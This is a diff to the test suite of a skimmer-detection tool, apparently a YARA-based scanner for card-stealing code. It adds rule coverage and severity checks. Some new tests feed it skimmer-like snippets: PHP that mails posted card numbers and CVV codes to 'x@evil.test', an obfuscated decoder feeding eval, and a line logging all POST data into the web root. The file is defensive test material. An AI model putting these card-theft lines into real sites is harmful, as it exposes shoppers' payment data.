@@ -28,7 +28,7 @@ from skimguard.errors import SkimguardError
 from skimguard.models import Confidence, Severity
 
 FIXTURES = Path(__file__).parent / "fixtures" / "rules"
-ALL_IDS = {f"SG4{n:02d}" for n in range(1, 40)}
+ALL_IDS = {f"SG4{n:02d}" for n in (*range(1, 40), *range(51, 61))}
 _LANGUAGE_BY_SUFFIX = {".js": Language.JS, ".html": Language.HTML, ".php": Language.PHP, ".txt": Language.TEXT}
 _EXPECT = re.compile(r"expect:\s*(?P<ids>[^\n]*?)\s*(?:-->)?\s*$")
 
@@ -65,10 +65,10 @@ def _fixtures() -> list[Path]:
 # --- compilation -------------------------------------------------------------------------------
 
 
-def test_packaged_rules_compile_and_cover_sg401_to_sg439() -> None:
+def test_packaged_rules_compile_and_cover_sg401_to_sg439_and_sg451_to_sg460() -> None:
     rules = packaged_rules()
     ids = [dict(rule.metadata)["id"] for rule in rules]
-    assert len(ids) == 39
+    assert len(ids) == 49
     assert set(ids) == ALL_IDS
     assert sorted(packaged_rule_sources()) == ["skimmer_html.yar", "skimmer_js.yar", "skimmer_php.yar"]
 
@@ -137,6 +137,18 @@ def test_catalog_documents_every_rule_sorted_and_unique() -> None:
         assert all(ref.startswith("https://") for ref in info.references), info.rule_id
 
 
+def test_meta_with_escaped_quotes_reads_as_text() -> None:
+    source = _rule("quoted", '"skimguard"').replace(
+        'description = "A rule used by the tests. It matches a fixed word."',
+        'description = "A rule used by the tests. It matches \\"skimguard\\"."',
+    )
+    rules = compile_rules({"quoted.yar": source})
+    (rule,) = list(rules)
+    assert yara_rules._meta_of(rule.identifier, rule.metadata).description == (
+        'A rule used by the tests. It matches "skimguard".'
+    )
+
+
 def test_rule_names_start_with_their_id() -> None:
     for rule in packaged_rules():
         assert rule.identifier.startswith(dict(rule.metadata)["id"] + "_"), rule.identifier
@@ -152,6 +164,9 @@ def test_single_traits_are_not_high() -> None:
     # card field names, sinks, encodings, gates: traits benign code shows too
     for rule_id in ("SG401", "SG402", "SG404", "SG406", "SG407", "SG408", "SG409", "SG410", "SG411", "SG429"):
         assert severity[rule_id] <= Severity.LOW, rule_id
+    # obfuscation alone, rewired buttons, redirects, request logs, forged dates: at most medium
+    for rule_id in ("SG451", "SG453", "SG454", "SG455", "SG456", "SG457", "SG460"):
+        assert severity[rule_id] <= Severity.MEDIUM, rule_id
     # only combinations and kit skeletons are high
     assert {r for r, s in severity.items() if s >= Severity.HIGH} == {
         "SG418",
@@ -162,7 +177,15 @@ def test_single_traits_are_not_high() -> None:
         "SG430",
         "SG432",
         "SG436",
+        "SG452",
+        "SG458",
+        "SG459",
     }
+    # self-decoding code makes a script suspicious, not convicted: benign code may be obfuscated too
+    catalog = {info.rule_id: info for info in rule_catalog()}
+    assert (catalog["SG452"].severity, catalog["SG452"].confidence) == (Severity.HIGH, Confidence.LOW)
+    # the only critical rule: number and security code sent where no payment module sends them
+    assert {r for r, s in severity.items() if s is Severity.CRITICAL} == {"SG458"}
 
 
 # --- fixtures ----------------------------------------------------------------------------------
@@ -183,7 +206,7 @@ def test_every_rule_has_a_positive_fixture() -> None:
 
 def test_hard_negatives_raise_nothing_above_low() -> None:
     negatives = [p for p in _fixtures() if p.name.startswith("ok_")]
-    assert len(negatives) == 10
+    assert len(negatives) == 15
     for path in negatives:
         hits = scan_rules(path.read_text(encoding="utf-8"), language=_LANGUAGE_BY_SUFFIX[path.suffix])
         assert all(hit.severity <= Severity.LOW for hit in hits), path.name
@@ -281,3 +304,57 @@ def test_lone_surrogates_do_not_break_scanning() -> None:
     text = "\udcff var w = atob('Y2hlY2tvdXQ=');"
     (hit,) = scan_rules(text, language=Language.JS)
     assert (hit.rule_id, hit.line, hit.column) == ("SG403", 1, 16)
+
+
+# --- obfuscation, checkout and server-side rules -------------------------------------------------
+
+
+def _ids(text: str, language: Language = Language.JS) -> list[str]:
+    return [hit.rule_id for hit in scan_rules(text, language=language)]
+
+
+def test_getter_named_like_mail_is_not_mail() -> None:
+    # getCustomerEmail( ends in "mail(" but is no e-mail: SG430 must not fire on gateway code
+    text = "<?php $a = $o->getCustomerEmail(); $n = $p->getCcNumber(); $c = $p->getCcCid();"
+    assert _ids(text, Language.PHP) == ["SG429"]
+    assert _ids(text.replace("$a = $o->getCustomerEmail();", "mail('x@evil.test', 's', $n);"), Language.PHP) == [
+        "SG429",
+        "SG430",
+        "SG458",
+    ]
+
+
+def test_decoder_must_be_close_to_the_code_it_runs() -> None:
+    decoder = "var r='';for(var j=0;j<t.length;j++){r+=String.fromCharCode(t.charCodeAt(j)-3);}"
+    assert _ids(decoder + "eval(r);") == ["SG452"]
+    assert _ids(decoder + " " * 1600 + "eval(r);") == []
+
+
+def test_obfuscated_card_code_needs_a_decoder_and_a_card_trait() -> None:
+    fixture = (FIXTURES / "sg453_obfuscated_card_code.js").read_text(encoding="utf-8")
+    without_card = fixture.replace("cc_number", "first").replace("cvv", "second").replace("exp_month", "third")
+    assert _ids(without_card) == ["SG451"]
+    assert _ids("var record = { cc_number: a, cvv: b };") == ["SG401"]
+
+
+def test_card_theft_needs_number_and_security_code_near_the_drop() -> None:
+    drop = "mail('x@evil.test', 's', $m);"
+    number_only = "<?php $m = $_POST['cc_number'];" + drop
+    assert "SG458" not in _ids(number_only, Language.PHP)
+    both = "<?php $m = $_POST['cc_number'] . $_POST['cvv'];"
+    assert "SG458" in _ids(both + drop, Language.PHP)
+    assert "SG458" not in _ids(both + " " * 3100 + drop, Language.PHP)
+
+
+def test_request_log_only_in_the_web_root() -> None:
+    inside = "<?php file_put_contents('r.txt', serialize($_POST), FILE_APPEND);"
+    outside = "<?php file_put_contents('/var/log/r.txt', serialize($_POST), FILE_APPEND);"
+    assert _ids(inside, Language.PHP) == ["SG433", "SG457"]
+    assert _ids(outside, Language.PHP) == ["SG433"]
+
+
+def test_decoder_rules_scan_hostile_input_quickly() -> None:
+    chunk = "x[i]=s.charAt(i);eval(a);r+=String.fromCharCode(t.charCodeAt(j)-3);" + " " * 1700
+    text = (chunk * 2000)[:MAX_SCAN_BYTES]
+    hits = scan_rules(text, language=Language.JS)
+    assert [hit.rule_id for hit in hits] == ["SG452"]
